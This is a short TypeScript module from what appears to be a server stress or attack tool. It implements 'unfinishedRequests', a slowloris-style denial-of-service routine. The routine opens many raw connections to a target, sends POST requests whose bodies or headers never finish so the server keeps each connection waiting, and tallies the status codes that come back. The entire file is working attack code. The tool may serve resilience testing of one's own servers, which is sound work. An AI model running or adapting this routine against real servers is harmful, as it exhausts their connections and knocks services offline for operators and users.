import { openConnection, requestHead } from '../../clients/raw-socket.ts'
import { count } from '../../support/counts.ts'
import type { Attack } from '../attack.ts'
import { openMany } from '../open-many.ts'

/** The server answers these headers at once, and then waits for the body. */
const headers = { 'Content-Type': 'application/json', 'Content-Length': '100', Expect: '100-continue' }

/** Posts whose body never comes to its end, and requests whose headers do not. */
export const unfinishedRequests: Attack = ({ url, addresses }, achieved) => {
  const head = requestHead('POST', url, headers)
  let number = 0
  openMany(achieved, ({ accepted, gone }) => {
    const socket = openConnection({ url, address: addresses[(number += 1) % addresses.length] })
    const isWithoutEnd = number % 10 === 0
    socket.write(isWithoutEnd ? head : `${head}\r\n[`)
    if (isWithoutEnd) socket.once('connect', accepted) // nothing tells when the server has accepted it
    socket.on('data', (data) => {
      accepted()
      count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`)
    })
    socket.once('close', gone)
  })
}
